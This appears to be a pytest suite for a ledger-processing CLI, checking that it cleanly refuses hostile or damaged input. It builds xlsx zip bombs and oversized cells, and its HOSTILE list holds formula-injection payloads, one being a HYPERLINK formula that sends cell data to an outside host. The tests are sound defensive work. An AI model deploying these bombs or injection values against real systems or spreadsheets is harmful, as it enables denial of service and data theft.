"""One test per class of hostile or damaged input of issue 13 (SPEC §1, §5, §7).

Each builds its input in tmp_path (nothing large is committed; nothing under /dev is touched)
and asserts the exit code, what the message names (file, line, the option or --limit NAME
that fixes it) and that the run ended cleanly (fuzzing.unclean: only `Error:`/`Warning:`/
`Note:` lines, none over 1000 characters, no traceback, no internal error). Inputs that could
take the test process down (a native abort, gigabytes of memory) run in a child process of
their own, with its address space limited, and are timed and weighed there.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import zipfile
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import EXAMPLES
from fuzzing import (
    Isolated,
    Run,
    invoke,
    isolated,
    padded_sheet,
    read_csv_bytes,
    split_lines,
    unclean,
    xlsx_members,
    xlsx_with_sheet,
    zip_bytes,
)

CSV = EXAMPLES / "ks-2024.csv"
XLSX = EXAMPLES / "ks-2024.xlsx"
CONFIG = EXAMPLES / "kfollow.toml"
LINES = split_lines(CSV.read_bytes())  # cp1252, CRLF; line 1 is the header
SMALL = "år;period;version;konto;belopp\n2024;1;utfall;5011;1 000,00\n2024;1;budget;5011;2 000,00\n"


def variance(path: Path, *options: object, config: Path = CONFIG) -> Run:
    return invoke("variance", path, "--config", config, "--format", "json", "--unit", "kr", *options)


def reconcile(path: Path, *options: object) -> Run:
    return invoke("reconcile", path, "--config", CONFIG, "--format", "json", *options)


def refused(run: Run, exit_code: int, *names: str) -> None:
    """The run ended with `exit_code`, cleanly, and its `Error:` lines name each of `names`
    (regular expressions)."""
    assert unclean(run) == [], (unclean(run), run.stderr[:2000])
    assert run.exit_code == exit_code, run.stderr[:2000]
    errors = "\n".join(line for line in run.stderr.splitlines() if line.startswith("Error:"))
    for name in names:
        assert re.search(name, errors), f"{name!r} not in:\n{errors[:2000]}"


def example_table() -> dict:
    return json.loads(variance(CSV).stdout)


def with_line(number: int, line: bytes) -> bytes:
    """The example CSV with line `number` (1-based) replaced."""
    return b"".join(line if i == number - 1 else old for i, old in enumerate(LINES))


def with_amount(number: int, amount: bytes) -> bytes:
    cells = LINES[number - 1].rstrip(b"\r\n").split(b";")
    return with_line(number, b";".join([*cells[:-1], amount]) + b"\r\n")


# --- amounts: SPEC §1 "Nothing is read wrong in silence" --------------------------------------


@pytest.mark.parametrize("amount", ["２７４ ７８４,７０", "٢٧٤ ٧٨٤,٧٠"], ids=["fullwidth", "arabic-indic"])
def test_digits_other_than_0_to_9_are_refused(tmp_path: Path, amount: str) -> None:
    path = tmp_path / "ledger.csv"
    path.write_text(SMALL + f"2024;2;utfall;5011;{amount}\n", "utf-8")
    refused(variance(path), 3, r"ledger\.csv:4\b", "belopp")
    refused(invoke("convert", path), 3, r"ledger\.csv:4\b")


def test_a_last_line_cut_inside_an_amount_is_refused(tmp_path: Path) -> None:
    """'675 131,98' cut to '675 1' (no line end): a digit group that is not three long."""
    path = tmp_path / "ks-2024.csv"
    data = CSV.read_bytes()
    assert data.endswith(b";675 131,98\r\n")
    path.write_bytes(data[: -len(b"31,98\r\n")])
    refused(variance(path), 3, rf"ks-2024\.csv:{len(LINES)}\b", "675 1")
    refused(reconcile(path), 3, rf"ks-2024\.csv:{len(LINES)}\b")


def test_a_last_line_without_a_line_end_is_read_and_noted(tmp_path: Path) -> None:
    """SPEC §1: read (the same table), and reconcile notes it: the file may be cut off."""
    path = tmp_path / "ks-2024.csv"
    path.write_bytes(CSV.read_bytes().rstrip(b"\r\n"))
    run = variance(path)
    assert run.exit_code == 0 and unclean(run) == [], run.stderr
    assert json.loads(run.stdout) == example_table()
    run = reconcile(path)
    assert run.exit_code == 0 and unclean(run) == [], run.stderr
    findings = json.loads(run.stdout)["findings"]
    noted = [f for f in findings if re.search(r"line end|newline|cut off|truncat", f["message"], re.I)]
    assert noted, [f["code"] for f in findings]
    assert any(f"ks-2024.csv:{len(LINES)}" in json.dumps(f, ensure_ascii=False) for f in noted), noted


def test_data_rows_above_the_header_row_are_refused(tmp_path: Path) -> None:
    """Five data rows above the header are not "title rows" to skip."""
    path = tmp_path / "ks-2024.csv"
    path.write_bytes(b"".join([*LINES[1:6], LINES[0], *LINES[6:]]))
    refused(variance(path), 3, r"ks-2024\.csv:[1-6]\b")
    refused(reconcile(path), 3, r"ks-2024\.csv:[1-6]\b")


def test_utf8_with_one_latin1_byte_after_the_first_256_kb_is_refused(tmp_path: Path) -> None:
    """Not re-read as cp1252 (every text garbled, in silence): the line is named, and --encoding."""
    data = CSV.read_bytes().decode("cp1252").encode("utf-8")
    at = data.index("ö".encode(), 300_000)
    assert at > 256 * 1024
    line = data.count(b"\n", 0, at) + 1
    path = tmp_path / "ks-2024.csv"
    path.write_bytes(data[:at] + b"\xf6" + data[at + 2 :])
    refused(variance(path), 3, rf"ks-2024\.csv:{line}\b", "--encoding")
    refused(invoke("accounts", path, "--config", CONFIG), 3, rf"ks-2024\.csv:{line}\b")


@pytest.mark.parametrize("amount", ["1e15", "4e-4", "1 2 3", "1,5e3"])
@pytest.mark.parametrize("ledger", ["small", "example"])
def test_exponents_and_digit_groups_not_three_long_are_refused(tmp_path: Path, amount: str, ledger: str) -> None:
    """The same verdict whatever the other rows of the file (the example: 4 456 plain rows)."""
    path = tmp_path / "ledger.csv"
    if ledger == "small":
        path.write_text(SMALL + f"2024;2;utfall;5011;{amount}\n", "utf-8")
        line = 4
    else:
        line = 1000
        path.write_bytes(with_amount(line, amount.encode()))
    refused(variance(path), 3, rf"ledger\.csv:{line}\b", re.escape(amount))
    refused(invoke("convert", path), 3, rf"ledger\.csv:{line}\b")


def test_a_nul_inside_an_account_code_is_refused(tmp_path: Path) -> None:
    cells = LINES[99].split(b";")
    cells[3] = cells[3][:2] + b"\x00" + cells[3][2:]
    path = tmp_path / "ks-2024.csv"
    path.write_bytes(with_line(100, b";".join(cells)))
    refused(variance(path), 3, r"ks-2024\.csv:100\b", "konto")
    refused(invoke("convert", path), 3, r"ks-2024\.csv:100\b", "konto")


# --- kfollow.toml (exit 2: SPEC §7, options and config) -------------------------------------------


def config_run(tmp_path: Path, text: str) -> Run:
    config = tmp_path / "kfollow.toml"
    config.write_text(text, "utf-8")
    return variance(CSV, config=config)


def test_config_a_prefix_given_twice_after_whitespace_is_refused(tmp_path: Path) -> None:
    """' 91 ' and '91' are one prefix: which row wins must not be the file's order."""
    run = config_run(tmp_path, '[accounts]\n" 91 " = "Kommunbidrag"\n"91" = "Finansnetto"\n')
    refused(run, 2, r"kfollow\.toml", "91")


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ('[accounts]\n"91" = "Kommunbidrag"\n[acounts]\n"92" = "Kommunbidrag"\n', "acounts"),
        ('[accounts]\n"91" = "Kommunbidrag"\n[investments.options]\nacount = ["10"]\n', "acount"),
        ('acounts = 1\n[accounts]\n"91" = "Kommunbidrag"\n', "acounts"),
    ],
    ids=["section", "key-in-section", "top-level-key"],
)
def test_config_unknown_sections_and_keys_are_refused(tmp_path: Path, text: str, named: str) -> None:
    refused(config_run(tmp_path, text), 2, r"kfollow\.toml", named)


@pytest.mark.parametrize("nesting", ["arrays", "inline-tables"])
def test_config_deeply_nested_is_refused_cleanly(tmp_path: Path, nesting: str) -> None:
    depth = 5000
    value = "[" * depth + "]" * depth if nesting == "arrays" else "{a = " * depth + "1" + "}" * depth
    run = config_run(tmp_path, f'[accounts]\n"91" = "Kommunbidrag"\n[names]\nx = {value}\n')
    refused(run, 2, r"kfollow\.toml")


# --- xlsx: bombs, limits and damage ------------------------------------------------------------------


def _sheet() -> bytes:
    with zipfile.ZipFile(XLSX) as workbook:
        return workbook.read("xl/worksheets/sheet1.xml")


SHEET_TAIL = b"</sheetData></worksheet>"


def _dimension(sheet: bytes) -> bytes:
    """The sheet's <dimension …/> element as written (with or without lxml, openpyxl spaces it otherwise)."""
    found = re.search(rb"<dimension [^>]*/>", sheet)
    assert found
    return found[0]


def _sheet_head(rows: int = 8) -> bytes:
    """sheet1.xml up to (not including) row `rows + 1`: titles, header and a few data rows."""
    sheet = _sheet()
    return sheet[: sheet.index(f'<row r="{rows + 1}"'.encode())]


@pytest.fixture(scope="module")
def bombs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Run, Isolated]]:
    """xlsx files past the limits, all run by `variance` in a child process (fuzzing.isolated: a
    native abort or gigabytes must not take pytest down), timed and weighed there. Built in
    memory and on disk in about a second: the 1.1 GiB sheet is a 16 MiB run of spaces deflated
    once and repeated (fuzzing.padded_sheet)."""
    head = _sheet_head()
    members = xlsx_members(XLSX)
    gib = 1 << 30
    inflating = padded_sheet(head, gib + gib // 10, SHEET_TAIL)
    small = padded_sheet(head, 1 << 20, SHEET_TAIL)

    cell_head, cell_tail = _text_cell_row(9, 1).split(b">x<")
    cell_head, cell_tail = cell_head + b">", b"<" + cell_tail + SHEET_TAIL

    def sheet(rows: bytes, old: bytes = b"", new: bytes = b"") -> bytes:
        return xlsx_with_sheet(XLSX, head.replace(old, new) + rows + SHEET_TAIL)

    def far_cell(reference: str, row: int) -> bytes:
        return sheet(f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'.encode())

    files = {
        "XFD1048576": far_cell("XFD1048576", 1048576),
        "ZZZ200000": far_cell("ZZZ200000", 200000),
        "XFD9": far_cell("XFD9", 9),
        "dimension-A1:XFD1048576": sheet(b"", _dimension(head), b'<dimension ref="A1:XFD1048576"/>'),
        "row-spans-1:16384": sheet(b"", b'<row r="5"', b'<row r="5" spans="1:16384"'),
        "inflates-to-1.1-GiB": zip_bytes([*members, inflating]),
        "says-1-KiB-inflates-to-1.1-GiB": zip_bytes([*members, replace(inflating, declared=1024)]),
        "says-3-GiB-holds-1-MiB": zip_bytes([*members, replace(small, declared=3 * gib)]),
        "256-MiB-text-cell": zip_bytes([*members, padded_sheet(head + cell_head, 256 << 20, cell_tail, b"x")]),
    }
    folder = tmp_path_factory.mktemp("bombs")
    argvs = []
    for name, data in files.items():
        path = folder / f"ks-{name}.xlsx"
        path.write_bytes(data)
        argvs.append(["variance", str(path), "--config", str(CONFIG)])
    results = isolated(argvs, folder)
    return {name: (result.run(argv), result) for name, argv, result in zip(files, argvs, results, strict=True)}


def _fast_and_small(result: Isolated) -> None:
    """Refused (or read) within seconds and under 300 MiB (issue 13: 'refuse a bomb within a
    second or two and under 300 MiB'; 5 s for a loaded CI machine)."""
    assert result.costly(seconds=5, mib=300) is None, result.costly(seconds=5, mib=300)


@pytest.mark.parametrize("name", ["XFD1048576", "ZZZ200000"])
def test_xlsx_a_cell_at_xfd1048576_is_refused(bombs: dict[str, tuple[Run, Isolated]], name: str) -> None:
    """Not a native abort ('memory allocation of 549754241024 bytes failed', exit 134)."""
    run, result = bombs[name]
    refused(run, 3, rf"ks-{name}\.xlsx", r"--limit sheet-cells=")
    _fast_and_small(result)


@pytest.mark.parametrize("name", ["XFD9", "dimension-A1:XFD1048576", "row-spans-1:16384"])
def test_xlsx_sheets_that_declare_a_huge_extent_end_cleanly(bombs: dict[str, tuple[Run, Isolated]], name: str) -> None:
    """A wide row, a declared dimension or spans past the data: read or refused, cheaply."""
    run, result = bombs[name]
    assert unclean(run) == [] and run.exit_code in (0, 3), (unclean(run), run.stderr[:1000])
    _fast_and_small(result)


@pytest.mark.parametrize(
    ("name", "named"),
    [
        ("inflates-to-1.1-GiB", r"--limit xlsx-size="),
        ("says-1-KiB-inflates-to-1.1-GiB", r"ks-says-1-KiB-inflates-to-1\.1-GiB\.xlsx"),
        ("says-3-GiB-holds-1-MiB", r"ks-says-3-GiB-holds-1-MiB\.xlsx"),
    ],
)
def test_xlsx_a_zip_bomb_is_refused_within_seconds_and_300_mib(
    bombs: dict[str, tuple[Run, Isolated]], name: str, named: str
) -> None:
    """A sheet that inflates past --limit xlsx-size (1 GiB) is refused, not read (exit 0 after
    3.3 GB); a zip whose headers state another size than it holds is a damaged file."""
    run, result = bombs[name]
    refused(run, 3, named)
    _fast_and_small(result)


def test_xlsx_a_huge_text_cell_is_read_cheaply_or_refused_by_the_cell_limit(
    bombs: dict[str, tuple[Run, Isolated]],
) -> None:
    """A 256 MiB text cell (the issue's 600 MB cell took 4 GB and was killed): refused naming
    --limit cell, or (a column no command reads) passed over, within seconds and 300 MiB."""
    run, result = bombs["256-MiB-text-cell"]
    if run.exit_code != 0:
        refused(run, 3, r"ks-256-MiB-text-cell\.xlsx", r"--limit cell=")
    assert unclean(run) == []
    _fast_and_small(result)


def _text_cell_row(number: int, size: int) -> bytes:
    """A data row whose text cell (column J) holds `size` characters."""
    row = _sheet()
    start = row.index(b'<row r="5"')
    row = row[start : row.index(b"</row>", start) + len(b"</row>")]
    row = re.sub(rb'r="([A-Z]*)5"', lambda m: b'r="' + m[1] + str(number).encode() + b'"', row)
    return re.sub(rb"(<c r=\"J\d+\"[^>]*><is><t>)[^<]*", lambda m: m[1] + b"x" * size, row)


def test_xlsx_a_text_cell_past_the_cell_limit_is_refused_or_read_and_read_with_a_raised_limit(tmp_path: Path) -> None:
    """A 2 MiB text cell (past the default --limit cell=1M): refused naming --limit cell, and
    then read with the limit raised; or read as it is. Either way the table is the example's."""
    path = tmp_path / "ks-2024.xlsx"
    sheet = _sheet()
    row = _text_cell_row(5, 2 << 20)
    start = sheet.index(b'<row r="5"')
    path.write_bytes(xlsx_with_sheet(XLSX, sheet[:start] + row + sheet[sheet.index(b"</row>", start) + 6 :]))
    run = variance(path)
    if run.exit_code != 0:
        refused(run, 3, r"ks-2024\.xlsx", r"--limit cell=")
        run = variance(path, "--limit", "cell=4M")
    assert run.exit_code == 0 and unclean(run) == [], run.stderr
    assert json.loads(run.stdout) == example_table()


def test_xlsx_a_flipped_byte_is_refused_without_a_traceback(tmp_path: Path) -> None:
    """A byte flipped in the sheet's compressed data: one `Error:` naming the file, no traceback
    from a worker thread (zipfile's CRC check fails there)."""
    data = XLSX.read_bytes()
    with zipfile.ZipFile(XLSX) as workbook:
        info = workbook.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    path = tmp_path / "ks-2024.xlsx"
    failures = []
    for fraction in (0.05, 0.3, 0.5, 0.9):
        at = start + int(info.compress_size * fraction)
        path.write_bytes(data[:at] + bytes([data[at] ^ 0x10]) + data[at + 1 :])
        run = variance(path)
        if run.exit_code != 3 or unclean(run) or "ks-2024.xlsx" not in run.stderr:
            failures.append(f"byte {at}: exit {run.exit_code} {unclean(run)} {run.stderr[:300]!r}")
    assert not failures, "\n".join(failures)


# --- CSV: damage and sizes ----------------------------------------------------------------------------


def test_an_unbalanced_quote_is_refused_with_its_line(tmp_path: Path) -> None:
    """A quote opened in line 100's text and never closed: no internal error ('field larger
    than field limit'), no error line of hundreds of kilobytes; line 100 is named."""
    cells = LINES[99].split(b";")
    cells[9] = b'"' + cells[9]  # text
    path = tmp_path / "ks-2024.csv"
    path.write_bytes(with_line(100, b";".join(cells)))
    refused(variance(path), 3, r"ks-2024\.csv:100\b")
    refused(reconcile(path), 3, r"ks-2024\.csv:100\b")


def test_a_10_mb_text_cell_in_a_valid_csv_is_read_or_refused_by_the_cell_limit(tmp_path: Path) -> None:
    cells = LINES[99].split(b";")
    cells[9] = b"x" * (10 << 20)  # text
    path = tmp_path / "ks-2024.csv"
    path.write_bytes(with_line(100, b";".join(cells)))
    run = variance(path)
    if run.exit_code != 0:
        refused(run, 3, r"ks-2024\.csv:100\b", r"--limit cell=")
        run = variance(path, "--limit", "cell=16M")
    assert run.exit_code == 0 and unclean(run) == [], run.stderr[:2000]
    assert json.loads(run.stdout) == example_table()


def test_an_all_nul_file_is_refused_without_echoing_it(tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    path.write_bytes(b"\x00" * 100_000)
    for command in ("variance", "convert"):
        run = variance(path) if command == "variance" else invoke("convert", path)
        refused(run, 3, r"ledger\.csv")
        assert len(run.stderr) < 2000, len(run.stderr)


# --- Parquet --------------------------------------------------------------------------------------------


def _parquet(path: Path) -> list[tuple[int, int]]:
    """The example as Parquet (snappy, dictionaries: as pyarrow writes it); the (start, end) of
    each column chunk of the first row group."""
    ledger = read_csv_bytes(CSV.read_bytes())
    names = ["år", "period", "version", "konto", "ansvar", "verksamhet", "aktivitet", "projekt", "text"]
    columns = {name: [str(row.cells[i]) for row in ledger.rows] for i, name in enumerate(names)}
    arrays = {name: pa.array(values) for name, values in columns.items()}
    arrays["år"] = pa.array([row.year for row in ledger.rows])
    arrays["period"] = pa.array([row.month for row in ledger.rows])
    arrays["belopp"] = pa.array([Decimal(row.ore).scaleb(-2) for row in ledger.rows], pa.decimal128(18, 2))
    pq.write_table(pa.table(arrays), path, row_group_size=1000)
    group = pq.ParquetFile(path).metadata.row_group(0)
    chunks = []
    for column in range(group.num_columns):
        chunk = group.column(column)
        start = chunk.dictionary_page_offset or chunk.data_page_offset
        chunks.append((start, start + chunk.total_compressed_size))
    return chunks


@pytest.mark.parametrize("damage", ["page-header", "dictionary-indices", "compressed-values"])
def test_corrupt_parquet_pages_are_refused_cleanly(tmp_path: Path, damage: str) -> None:
    path = tmp_path / "ks-2024.parquet"
    chunks = _parquet(path)
    data = bytearray(path.read_bytes())
    start, end = chunks[3]  # konto: a dictionary page, then the indices
    if damage == "page-header":
        data[start : start + 6] = b"\xff" * 6
    elif damage == "dictionary-indices":
        data[end - 40 : end - 20] = b"\xfe" * 20
    else:
        start, end = chunks[-1]  # belopp
        middle = (start + end) // 2
        data[middle : middle + 32] = bytes(range(32))
    path.write_bytes(bytes(data))
    refused(variance(path), 3, r"ks-2024\.parquet")
    refused(invoke("convert", path), 3, r"ks-2024\.parquet")


# --- -o (SPEC §5) ---------------------------------------------------------------------------------------


@pytest.fixture
def ledger_and_config(tmp_path: Path) -> tuple[Path, Path]:
    ledger, config = tmp_path / "led.csv", tmp_path / "kfollow.toml"
    ledger.write_bytes(CSV.read_bytes())
    config.write_bytes(CONFIG.read_bytes())
    return ledger, config


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("reconcile", "ledger"),
        ("variance", "config"),
        ("convert", "ledger-by-another-path"),
        ("accounts", "symlink-to-ledger"),
        ("reconcile", "config-among-several"),
    ],
)
def test_output_naming_an_input_or_the_config_is_refused(
    tmp_path: Path, ledger_and_config: tuple[Path, Path], command: str, target: str
) -> None:
    """`reconcile led.csv -o led.csv` overwrote the ledger with the report: exit 2, nothing written."""
    ledger, config = ledger_and_config
    outputs = {
        "ledger": [ledger],
        "config": [config],
        "ledger-by-another-path": [tmp_path / "sub" / ".." / "led.csv"],
        "symlink-to-ledger": [tmp_path / "link.csv"],
        "config-among-several": [tmp_path / "report.json", config],
    }[target]
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.csv").symlink_to(ledger)
    options = [] if command == "convert" else ["--config", config]
    run = invoke(command, ledger, *options, *[x for path in outputs for x in ("-o", path)])
    refused(run, 2, "-o")
    assert ledger.read_bytes() == CSV.read_bytes()
    assert config.read_bytes() == CONFIG.read_bytes()
    assert not (tmp_path / "report.json").exists()


def test_several_outputs_with_one_unwritable_writes_none(tmp_path: Path) -> None:
    """-o report.json -o notadir/report.xml (notadir a file: unwritable even for root): exit 2,
    report.json neither written nor changed."""
    (tmp_path / "notadir").write_text("a file, not a folder")
    existing = tmp_path / "before.json"
    existing.write_text("kept")
    fresh = tmp_path / "report.json"
    run = invoke(
        "reconcile", CSV, "--config", CONFIG, "-o", existing, "-o", fresh, "-o", tmp_path / "notadir" / "report.xml"
    )
    refused(run, 2, "notadir")
    assert existing.read_text() == "kept"
    assert not fresh.exists()


def test_output_to_a_fifo_is_written_in_place(tmp_path: Path) -> None:
    """-o naming a FIFO (as /dev/null names a device): written into, never renamed over."""
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader, so that opening to write does not block
    try:
        run = invoke("variance", CSV, "--config", CONFIG, "--format", "csv", "-o", fifo)
        assert run.exit_code == 0 and unclean(run) == [], run.stderr
        assert stat.S_ISFIFO(fifo.lstat().st_mode), "the FIFO was replaced by a regular file"
        received = os.read(reader, 1 << 16)
    finally:
        os.close(reader)
    assert received == invoke("variance", CSV, "--config", CONFIG, "--format", "csv").stdout.encode()


# --- formula injection (SPEC §5) --------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x?"&A1)', "+41 70", "-Inventarier", "@SUM(A1)", "=1+1"]


@pytest.fixture
def injected(tmp_path: Path) -> tuple[Path, Path]:
    """A ledger whose account names, codes and texts start with = + - @, and a kfollow.toml
    whose investment categories do."""
    ledger = tmp_path / "led.csv"
    rows = [
        ["år", "period", "version", "konto", "kontotext", "ansvar", "projekt", "text", "belopp"],
        ["2024", "1", "utfall", "5011", HOSTILE[0], HOSTILE[4], "", HOSTILE[1], "100,00"],
        ["2024", "1", "utfall", "1221", HOSTILE[2], "2100", "9101", HOSTILE[3], "-50,00"],
        ["2024", "1", "utfall", "1221", "Inventarier", "2100", "@9201", "-x", "70,00"],
        ["2024", "1", "budget", "5011", HOSTILE[3], "2100", "", "\tTAB", "200,00"],
    ]
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerows(rows)
    ledger.write_text(out.getvalue(), "utf-8")
    config = tmp_path / "kfollow.toml"
    config.write_text('[accounts]\n"91" = "Kommunbidrag"\n[investments]\n"=1+2/+Sub" = ["91"]\n"@SUM(A1)" = ["@9"]\n')
    return ledger, config


def _unsafe_csv_cells(text: str, delimiter: str) -> list[str]:
    """Cells that start with = + - @ TAB or CR and are no number."""
    found = []
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter):
        for cell in row:
            number = re.fullmatch(r"-?[\d ]+(,\d+)?|-?\d+(\.\d+)?", cell)
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number:
                found.append(cell)
    return found


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as workbook:
        sheets = [n for n in workbook.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(rb"<f>([^<]*)</f>", workbook.read(n))]


@pytest.mark.parametrize(
    ("command", "delimiter"),
    [("convert", ";"), ("accounts", ","), ("projects", ","), ("investments", ",")],
)
def test_formula_injection_in_csv_output_is_neutralised(
    tmp_path: Path, injected: tuple[Path, Path], command: str, delimiter: str
) -> None:
    ledger, config = injected
    out = tmp_path / "out.csv"
    options = [] if command == "convert" else ["--config", config, "--format", "csv"]
    run = invoke(command, ledger, *options, "-o", out)
    assert run.exit_code == 0 and unclean(run) == [], run.stderr
    text = out.read_text("utf-8")
    assert _unsafe_csv_cells(text, delimiter) == []
    assert "'=" in text or "'@" in text or "'+" in text, text  # the hostile cells are there, quoted


@pytest.mark.parametrize("command", ["convert", "investments"])
def test_formula_injection_in_xlsx_output_is_neutralised(
    tmp_path: Path, injected: tuple[Path, Path], command: str
) -> None:
    ledger, config = injected
    out = tmp_path / "out.xlsx"
    options = [] if command == "convert" else ["--config", config]
    run = invoke(command, ledger, *options, "-o", out)
    assert run.exit_code == 0 and unclean(run) == [], run.stderr
    assert _formulas(out) == []
